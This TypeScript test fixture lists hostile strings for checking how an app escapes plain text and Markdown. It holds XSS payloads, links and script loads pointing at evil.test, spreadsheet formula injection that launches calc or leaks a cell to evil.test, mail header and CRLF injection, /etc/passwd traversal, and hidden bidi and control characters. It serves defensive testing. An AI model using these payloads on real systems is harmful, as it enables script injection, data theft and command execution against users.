/** Not Markdown: shown literally everywhere, as one text. */
export const nastyWords: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script src=//evil.test/x.js></script>',
  '</title></textarea></style></noscript><script>alert(2)</script>',
  '<img src=x onerror=alert(3)>',
  '<svg onload=alert(4)><animate onbegin=alert(4)></svg>',
  '<svg/onload=alert(4)',
  '<math><mi xlink:href="javascript:alert(5)">x</mi></math>',
  '<iframe srcdoc="<script>parent.alert(6)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(6)</script>"></object>',
  '<a href="javascript:alert(7)">x</a>',
  '<base href=//evil.test/><meta http-equiv=refresh content=0;//evil.test>',
  '<form action=//evil.test><button formaction=javascript:alert(8)>x',
  '<details open ontoggle=alert(9)>',
  '"><script>alert(10)</script>',
  "' autofocus onfocus=alert(11) x='",
  '" onmouseover="alert(12)" x="',
  '"}]},"__proto__":{"x":"</script><script>alert(13)</script>',
  '<!-- <script> --!> --> <![CDATA[ <script>alert(14)</script> ]]>',
  '<plaintext><xmp><noembed><template>',
  '&lt;script&gt;alert(15)&lt;/script&gt; &#60;script&#62; &amp;lt;',
  '{{constructor.constructor("alert(16)")()}} ${alert(16)} <%= alert(16) %> #{alert(16)}',
  'line\u2028separator\u2029paragraph',
  'hidden \u202eevil\u202c \u2066turned\u2069 \u200bmarks\ufeff',
  'bell \u0007 escape \u001b[31mred\u001b[0m \u001b]0;title\u0007 back\b\b\b delete\u007f \u009b31m',
  'zero \0 inside',
  'half \ud83d a character \udca9',
  'header\r\nBcc: victim@evil.test\r\n\r\n<script>alert(17)</script>',
  '=cmd|"/C calc"!A0',
  '+1+cmd|"/C calc"!A0',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '-2+3+cmd|"/C calc"!A0',
  '\t=HYPERLINK("http://evil.test?x="&A1,"Click")',
  '"'.repeat(200) + "'".repeat(40),
  '%3Cscript%3Ealert(18)%3C/script%3E %00 %0d%0aSet-Cookie:x=y',
  '\u{1d5cc}\uff1cscript\uff1ealert(19)\uff1c/script\uff1e',
]

/** Markdown that would like to be more than it may. */
export const nastyMarkdown: readonly string[] = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1)) [x](java\tscript:alert(1)) [x](\u0001javascript:alert(1)) [x]( javascript:alert(1))',
  '[x](javascript&colon;alert(1)) [x](&#106;avascript:alert(1)) [x](&#x6A;avascript:alert(1)) [x](java%0ascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [x](vbscript:msgbox(1)) [x](file:///etc/passwd) [x](blob:x) [x](about:blank)',
  '[x](//evil.test/x) [x](\\\\evil.test/x) [x](https:evil.test) [x](http:///evil.test)',
  '<javascript:alert(1)> <data:text/html,x> javascript:alert(1)',
  '![x](javascript:alert(1)) ![x](data:image/svg+xml,<svg onload=alert(1)>) ![x](/files/../../etc/passwd) ![x](//evil.test/x.png)',
  '[x](https://example.com/"onmouseover="alert(1)) [x](https://example.com/ "title\\" onclick=alert(1)")',
  '[<img src=x onerror=alert(1)>](https://example.com/) [![x](javascript:alert(1))](javascript:alert(1))',
  '@[<b onclick=alert(1)>x</b>](user:01900000-0000-7000-8000-000000000001) @[x](user:"><script>alert(1)</script>)',
  '`<script>alert(1)</script>` ``` </code><script>alert(1)</script> ```',
  '```html"><script>alert(1)</script>\n</pre><script>alert(1)</script>\n```',
  '- <script>alert(1)</script>\n1. <img src=x onerror=alert(1)>\n> <svg onload=alert(1)>',
  '> '.repeat(300) + 'deep',
  '['.repeat(500) + '](x)' + '*_'.repeat(400),
  '[a]: javascript:alert(1)\n\n[a]\n\n<a>: x',
  '| <script> | x |\n|---|---|\n| alert(1) | </script> |',
  '# <script>alert(1)</script>\n\n---\n\n<div onclick=alert(1)>x</div>\n\n<!--\n\n-->',
]

/** All of them in as few texts as their length allows; one that is longer than that is cut. */
export function packed(texts: readonly string[], most: number): string[] {
  const packs: string[] = []
  for (const text of texts) {
    const last = packs.at(-1)
    if (last !== undefined && last.length + text.length < most) packs[packs.length - 1] = `${last} ${text}`
    else packs.push(text.slice(0, most))
  }
  return packs
}
